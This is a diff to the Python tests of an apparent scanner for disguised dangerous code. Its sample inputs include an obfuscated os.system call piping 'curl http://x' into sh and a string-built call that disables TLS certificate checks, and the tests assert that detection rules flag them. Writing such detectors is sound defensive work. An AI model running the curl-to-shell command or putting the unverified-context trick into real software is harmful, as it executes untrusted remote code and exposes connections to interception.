@@ -47,7 +47,16 @@ def test_makefile_line_numbers_and_snippets_with_lone_carriage_returns(analyzer)
 
 
 def test_folded_snippet_comes_from_the_numbered_line(analyzer):
-    text = "import importlib\r# x\nm = importlib.import_module('o' + 's')\nm.system('curl http://x | sh')\n"
+    # A disguise only the folded view resolves (the semantic layer reports built names as plain code).
+    text = "import ssl\r# x\nctx = getattr(ssl, '_create_' + 'unverified_context')()\n"
     hits = [f for f in analyzer.analyze(Document("f.py", text.encode())).findings if f.context == "folded"]
-    assert [(f.rule_id, f.line) for f in hits] == [("shell-pipe-to-interpreter", 3)]
-    assert hits[0].snippet == "m.system('curl http://x | sh')" and hits[0].decoded == "os.system('curl http://x | sh')"
+    assert [(f.rule_id, f.line) for f in hits] == [("ssl-unverified-context", 2)]
+    assert hits[0].snippet == "ctx = getattr(ssl, '_create_' + 'unverified_context')()"
+    assert hits[0].decoded == "ctx = ssl._create_unverified_context()"
+
+
+def test_semantic_snippet_comes_from_the_numbered_line(analyzer):
+    text = "import importlib\r# x\nm = importlib.import_module('o' + 's')\nm.system('curl http://x | sh')\n"
+    hits = [f for f in analyzer.analyze(Document("f.py", text.encode())).findings
+            if f.rule_id == "shell-pipe-to-interpreter"]
+    assert [(f.line, f.snippet) for f in hits] == [(3, "m.system('curl http://x | sh')")]
